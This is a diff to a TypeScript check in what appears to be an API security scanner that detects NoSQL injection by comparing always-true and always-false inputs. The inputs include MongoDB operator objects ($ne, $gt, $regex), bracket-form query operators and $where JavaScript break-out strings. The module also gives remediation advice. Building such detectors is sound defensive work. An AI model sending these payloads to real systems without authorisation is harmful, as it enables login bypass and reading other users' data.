@@ -1,33 +1,108 @@
-// API8:2023 Security Misconfiguration (injection): NoSQL operators that change what a query matches.
-
+// API8:2023 Security Misconfiguration (injection): NoSQL query operators and server-side JavaScript
+// expressions ($where) that change what a query matches. Proven by boolean pairs: an always-true
+// input must answer with more than an always-false one, for two different pairs.
 
 import type { Exchange } from '../../http/exchange';
 import { randomAlnum } from '../../random';
-import { mutate } from '../../requests';
+import { mutate, type PreparedRequest } from '../../requests';
 import { defineCheck, describeEndpoint } from '../common/helpers';
-import { scalar } from '../common/injection';
+import { byPlace, scalar } from '../common/injection';
 import {
     AS_KEY1,
+    describePoint,
     editableBody,
     isCreate,
-    otherAnswer,
     pointSource,
-    sameAnswer,
     valueText,
     type InjectionPoint,
 } from '../common/input-points';
-import { describeGain, gained } from './command-injection';
 import { OWASP_API8 } from '../common/references';
+import { gained } from './command-injection';
 
 export function describeDifference(a: Exchange, b: Exchange): string {
   if (a.status !== b.status) return `status ${a.status} instead of ${b.status}`;
   return `${a.body.length} bytes instead of ${b.body.length}`;
 }
 
-// ---------------------------------------------------------------- NoSQL operators
-
 const NOSQL_FIELDS = 3;
+const QUERY_POINTS = 2;
+const JS_POINTS = 2;
 const PAGING_NAME = /^(page|pages|page_?size|per_?page|limit|offset|skip|size|count|top|sort|order|order_?by|sort_?by|fields|include|expand|format|lang|locale)$/i;
+
+/** An always-true and an always-false input, as the value sent and as words for the evidence. */
+interface Pair {
+  yes: unknown;
+  no: unknown;
+  label: [string, string];
+}
+
+/** Pairs tried in turn: the first must hold, and one more of the rest. */
+type Family = Pair[];
+
+const token = () => `portcullis-${randomAlnum(12)}`;
+
+/** Operator objects for JSON bodies. */
+function bodyOperators(): Family {
+  const r = token();
+  return [
+    { yes: { $ne: null }, no: { $in: [r] }, label: ['{"$ne": null}', '{"$in": [random]}'] },
+    { yes: { $gt: '' }, no: { $lt: '' }, label: ['{"$gt": ""}', '{"$lt": ""}'] },
+    { yes: { $regex: '.*' }, no: { $regex: `^${r}$` }, label: ['{"$regex": ".*"}', '{"$regex": "^random$"}'] },
+  ];
+}
+
+/** Operators in query strings (name[$op]=value, as qs-style parsers read them): [operator, value]. */
+function queryOperators(): Family {
+  const r = token();
+  return [
+    { yes: ['$ne', r], no: ['$eq', r], label: ['[$ne]=random', '[$eq]=random'] },
+    { yes: ['$regex', '.*'], no: ['$regex', `^${r}$`], label: ['[$regex]=.*', '[$regex]=^random$'] },
+    { yes: ['$gt', ''], no: ['$lt', ''], label: ['[$gt]=', '[$lt]='] },
+  ];
+}
+
+/**
+ * Server-side JavaScript ($where, mapReduce, $function) built by string concatenation: an expression
+ * context ("this.name == '<value>'") and a function-body context ("var x = '<value>'; return ...").
+ * === is JavaScript only, so SQL never answers these pairs.
+ */
+function jsExpressions(v: string): Family[] {
+  const pair = (yes: string, no: string): Pair => ({ yes, no, label: [yes, no] });
+  return [
+    [pair(`${v}' || 'a'==='a`, `${v}' && 'a'==='b`), pair(`${v}' || 1===1 || '`, `${v}' && 1===2 && '`)],
+    [pair(`${v}'; return true; var x='`, `${v}'; return false; var x='`), pair(`${v}'; return 1===1; var x='`, `${v}'; return 1===2; var x='`)],
+  ];
+}
+
+interface Hit {
+  pair: Pair;
+  yes: Exchange;
+  no: Exchange;
+}
+
+/** The always-true input got more than the always-false one: a success where it was refused, or more data. */
+function truthier(yes: Exchange, no: Exchange): boolean {
+  return !!yes.response && !!no.response && yes.status < 500 && no.status < 500 && gained(yes, no);
+}
+
+type Outcome = { hits: Hit[] } | 'none' | 'unconfirmed' | 'budget';
+
+/** A family's first pair and then its others until a second one holds. */
+async function proveFamily(send: (value: unknown) => Promise<Exchange | null>, family: Family): Promise<Outcome> {
+  const hits: Hit[] = [];
+  for (const [i, pair] of family.entries()) {
+    const yes = await send(pair.yes);
+    if (!yes) return 'budget';
+    const no = await send(pair.no);
+    if (!no) return 'budget';
+    if (truthier(yes, no)) hits.push({ pair, yes, no });
+    else if (i === 0) return 'none';
+    if (hits.length >= 2) return { hits };
+  }
+  return 'unconfirmed';
+}
+
+const STAGES = ['body operators', 'query operators', 'server-side JavaScript'] as const;
 
 export const nosqlInjection = defineCheck({
   id: 'api8-nosql-injection',
@@ -41,96 +116,119 @@ export const nosqlInjection = defineCheck({
   kind: 'active',
   safety: 'safe',
   scope: 'endpoint',
-  budget: 16,
+  budget: 32,
   description:
-    'Replaces string values of key 1\'s JSON body with MongoDB-style operators — all of them at once, then one at a time — and query ' +
-    'parameters with their bracket form (name[$ne]=...). Finding when {"$ne": null} turns a refused or empty answer into a successful or ' +
-    'larger one, {"$gt": ""} does the same, and a non-matching operator ({"$in": [random]}) answers like the baseline: the operators are ' +
-    'evaluated. For query parameters: name[$eq]=value answers like name=value while name[$ne]=value answers otherwise.',
+    'Boolean pairs, each an always-true and an always-false input: (1) MongoDB-style operators in string fields of key 1\'s JSON body, all ' +
+    'at once then one at a time ({"$ne": null} vs {"$in": [random]}, {"$gt": ""} vs {"$lt": ""}, {"$regex": ".*"} vs {"$regex": "^random$"}); ' +
+    '(2) the bracket form in query parameters (name[$ne]=x vs name[$eq]=x, name[$regex]=.* vs a non-matching pattern, [$gt] vs [$lt]); ' +
+    '(3) server-side JavaScript ($where) built from query, path and body strings: x\' || \'a\'===\'a vs x\' && \'a\'===\'b, and the ' +
+    'function-body form \'; return true; var x=\' vs return false. Finding when the true input answers with more than the false one (a success ' +
+    'where it is refused, or more data), for two different pairs. Never on a 5xx.',
+  coverage:
+    `Body operators go into up to ${NOSQL_FIELDS} top-level string fields, query operators into up to ${QUERY_POINTS} filter parameters (not ` +
+    `paging ones), expressions into up to ${JS_POINTS} strings, single-quoted contexts only. Blind injections whose answer does not change ` +
+    '(no more data, no other status) are not seen; nor are operators in form bodies.',
   remediation:
-    'Accept only the types the schema declares (reject objects where strings are expected), cast values before building queries, and use ' +
-    'the driver\'s sanitisation (e.g. mongo-sanitize, `sanitizeFilter`) so client input never supplies query operators.',
+    'Accept only the types the schema declares (reject objects where strings are expected), cast values before building queries, use the ' +
+    'driver\'s sanitisation (e.g. mongo-sanitize, `sanitizeFilter`) so client input never supplies query operators, and never build $where, ' +
+    'mapReduce or $function code from input (disable server-side JavaScript where the database allows it).',
   references: [OWASP_API8, 'https://cwe.mitre.org/data/definitions/943.html', 'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05.6-Testing_for_NoSQL_Injection'],
   appliesTo: (e) => e.flags.includes('SEC_MISC') && e.method !== 'DELETE',
   async *run(ctx) {
     const ep = ctx.endpoint;
-    const src = await pointSource(ctx);
+    const src = await pointSource(ctx, { createdPaths: ep.method === 'GET' });
     const baseline = await ctx.baseline('key1');
     if (!src || !baseline?.response) return;
-    const send = async (request: ReturnType<InjectionPoint['with']>) => (ctx.budgetLeft() > 0 ? ctx.sendPrepared(request, AS_KEY1) : null);
+    const send = async (request: PreparedRequest | null) => (request && ctx.budgetLeft() > 0 ? ctx.sendPrepared(request, AS_KEY1) : null);
+    /** A fresh request for creates (repeats must not collide), the same one otherwise. */
+    const requestNow = async () => (isCreate(ep) ? ((await pointSource(ctx))?.request ?? null) : src.request);
 
-    // Bodies: operators in string fields.
+    // Candidates per stage: a label for the evidence, and how a value is sent there.
+    type Candidate = { where: string; families: Family[]; sendValue: (value: unknown) => Promise<Exchange | null> };
+    const stages: Candidate[][] = [[], [], []];
     if (editableBody(src.request) && /json/i.test(src.request.contentType ?? '')) {
       const strings = src.points.filter((p) => p.where === 'body' && p.type === 'string' && typeof p.value === 'string' && !/[.[]/.test(p.name)).slice(0, NOSQL_FIELDS);
-      const sets = [...(strings.length >= 2 ? [strings] : []), ...strings.map((p) => [p])];
-      for (const set of sets) {
-        const withOp = async (op: unknown) => {
-          const fresh = isCreate(ep) ? await pointSource(ctx) : src;
-          if (!fresh) return null;
-          let value = fresh.request.bodyValue as Record<string, unknown>;
-          for (const p of set) value = { ...value, [p.key]: op };
-          return send(mutate(fresh.request, { bodyValue: value }));
-        };
-        const ne = await withOp({ $ne: null });
-        if (!ne || !gained(ne, baseline)) continue;
-        const control = await withOp({ $in: [`portcullis-${randomAlnum(12)}`] });
-        if (!control || gained(control, baseline) || !control.response) continue;
-        const gt = await withOp({ $gt: '' });
-        if (!gt || !gained(gt, baseline)) continue;
-        const names = set.map((p) => p.name).join(', ');
-        yield {
-          parameter: names,
-          description:
-            `${describeEndpoint(ep)} evaluates query operators sent in ${set.length > 1 ? 'body fields' : 'body field'} ${names}: with {"$ne": null} ` +
-            `the answer became ${describeGain(ne, baseline)}, {"$gt": ""} did the same, and a non-matching operator ({"$in": [random]}) was ` +
-            `answered like the original request (HTTP ${control.status}). The JSON value goes into a database query as is: an attacker can match ` +
-            'records without knowing their values (log in without a password, read other users\' data).',
-          notes: [`Baseline HTTP ${baseline.status}; $ne HTTP ${ne.status}; $gt HTTP ${gt.status}; non-matching $in HTTP ${control.status}.`],
-          exchanges: [
-            { label: 'Baseline', exchange: baseline },
-            { label: 'Attack: {"$ne": null}', exchange: ne },
-            { label: 'Confirmation: {"$gt": ""}', exchange: gt },
-            { label: 'Control: {"$in": [random]}', exchange: control },
-          ],
-          reproduce: ne,
-        };
+      for (const set of [...(strings.length >= 2 ? [strings] : []), ...strings.map((p) => [p])]) {
+        stages[0]!.push({
+          where: `${set.length > 1 ? 'body fields' : 'body field'} ${set.map((p) => p.name).join(', ')}`,
+          families: [bodyOperators()],
+          sendValue: async (op) => {
+            const request = await requestNow();
+            if (!request) return null;
+            let value = request.bodyValue as Record<string, unknown>;
+            for (const p of set) value = { ...value, [p.key]: op };
+            return send(mutate(request, { bodyValue: value }));
+          },
+        });
+      }
+    }
+    const filters = src.points.filter((x) => x.where === 'query' && scalar(x) && String(x.schema?.default ?? '\u0000') !== valueText(x) && !PAGING_NAME.test(x.key));
+    for (const p of filters.slice(0, QUERY_POINTS)) {
+      stages[1]!.push({
+        where: `query parameter ${p.name}`,
+        families: [queryOperators()],
+        sendValue: async (opValue) => {
+          const [op, value] = opValue as [string, string];
+          const request = await requestNow();
+          return request ? send(mutate(request, { query: { [p.name]: null, [`${p.name}[${op}]`]: value } })) : null;
+        },
+      });
+    }
+    const jsPoints = src.points
+      .filter((p) => p.where !== 'header' && p.type === 'string' && typeof p.value === 'string' && !p.schema?.enum && !['date', 'date-time', 'uuid'].includes(String(p.schema?.format ?? '')))
+      .sort(byPlace)
+      .slice(0, JS_POINTS);
+    for (const p0 of jsPoints) {
+      stages[2]!.push({
+        where: describePoint(p0),
+        families: jsExpressions(valueText(p0)),
+        sendValue: async (value) => {
+          const p: InjectionPoint | null = await src.get(p0.name);
+          return p ? send(p.with(value)) : null;
+        },
+      });
+    }
+
+    for (const [stage, candidates] of stages.entries()) {
+      for (const c of candidates) {
+        let outcome: Outcome = 'none';
+        for (const family of c.families) {
+          outcome = await proveFamily(c.sendValue, family);
+          if (outcome !== 'none') break;
+        }
+        if (outcome === 'budget') return;
+        // A first pair that held and no second one: an unstable answer, not worth more requests here.
+        if (outcome === 'unconfirmed') break;
+        if (outcome === 'none') continue;
+        yield finding(ep, STAGES[stage]!, c.where, outcome.hits, baseline);
         return;
       }
     }
-
-    // Query parameters: name[$eq]=v must answer like name=v, name[$ne]=v otherwise.
-    if (!baseline.ok) return;
-    // Filters only: a value equal to its default, or a paging number, gives nothing to compare.
-    const filters = src.points.filter((x) => x.where === 'query' && scalar(x) && String(x.schema?.default ?? '\u0000') !== valueText(x) && !PAGING_NAME.test(x.key));
-    for (const p of filters.slice(0, 2)) {
-      const v = valueText(p);
-      const bracket = (op: string) => mutate(src.request, { query: { [p.name]: null, [`${p.name}[${op}]`]: v } });
-      const eq = await send(bracket('$eq'));
-      if (!eq?.ok || !sameAnswer(eq, baseline)) continue;
-      const plainMissing = await send(mutate(src.request, { query: { [p.name]: null } }));
-      // Without the parameter the answer must differ: else $eq "working" proves nothing.
-      if (!plainMissing || !otherAnswer(plainMissing, baseline)) continue;
-      const ne = await send(bracket('$ne'));
-      if (!ne?.ok || !otherAnswer(ne, baseline) || !otherAnswer(ne, eq)) continue;
-      // Still stable: $eq answers as before (the data did not simply change meanwhile).
-      const again = await send(bracket('$eq'));
-      if (!again || !sameAnswer(again, eq)) continue;
-      yield {
-        parameter: p.name,
-        confidence: 'medium',
-        description:
-          `${describeEndpoint(ep)} evaluates query operators in query parameter ${p.name}: ${p.name}[$eq]=${v} answers like ${p.name}=${v}, ` +
-          `the request without it answers differently, and ${p.name}[$ne]=${v} returns other data (HTTP ${ne.status}). The parsed object goes into ` +
-          'a database query as is.',
-        exchanges: [
-          { label: 'Baseline', exchange: baseline },
-          { label: `Control: ${p.name}[$eq]`, exchange: eq },
-          { label: `Control: without ${p.name}`, exchange: plainMissing },
-          { label: `Attack: ${p.name}[$ne]`, exchange: ne },
-        ],
-        reproduce: ne,
-      };
-      return;
-    }
   },
 });
+
+function finding(ep: { method: string; path: string }, stage: (typeof STAGES)[number], where: string, hits: Hit[], baseline: Exchange) {
+  const [first, second] = hits as [Hit, Hit];
+  const what = stage === 'server-side JavaScript' ? 'server-side JavaScript expressions' : 'query operators';
+  const name = stage === 'server-side JavaScript' ? 'NoSQL injection (server-side JavaScript)' : 'NoSQL operator injection';
+  const parameter = where.replace(/^(body fields?|query parameter|path parameter|header) /, '');
+  return {
+    name,
+    parameter,
+    confidence: stage === 'body operators' ? ('high' as const) : ('medium' as const),
+    description:
+      `${describeEndpoint(ep)} evaluates ${what} sent in ${where}: the always-true ${first.pair.label[0]} was answered with HTTP ${first.yes.status} ` +
+      `(${first.yes.body.length} bytes), the always-false ${first.pair.label[1]} with HTTP ${first.no.status} (${first.no.body.length} bytes), and a ` +
+      `second pair (${second.pair.label[0]} vs ${second.pair.label[1]}) did the same. The input becomes part of a database query: an attacker can match records without knowing their ` +
+      "values (log in without a password, read other users' data).",
+    notes: hits.map((h) => `${h.pair.label[0]} -> HTTP ${h.yes.status} (${h.yes.body.length} bytes); ${h.pair.label[1]} -> HTTP ${h.no.status} (${h.no.body.length} bytes).`),
+    exchanges: [
+      { label: 'Baseline', exchange: baseline },
+      { label: `Attack: ${first.pair.label[0]}`, exchange: first.yes },
+      { label: `Control: ${first.pair.label[1]}`, exchange: first.no },
+      { label: `Confirmation: ${second.pair.label[0]}`, exchange: second.yes },
+      { label: `Control: ${second.pair.label[1]}`, exchange: second.no },
+    ],
+    reproduce: first.yes,
+  };
+}
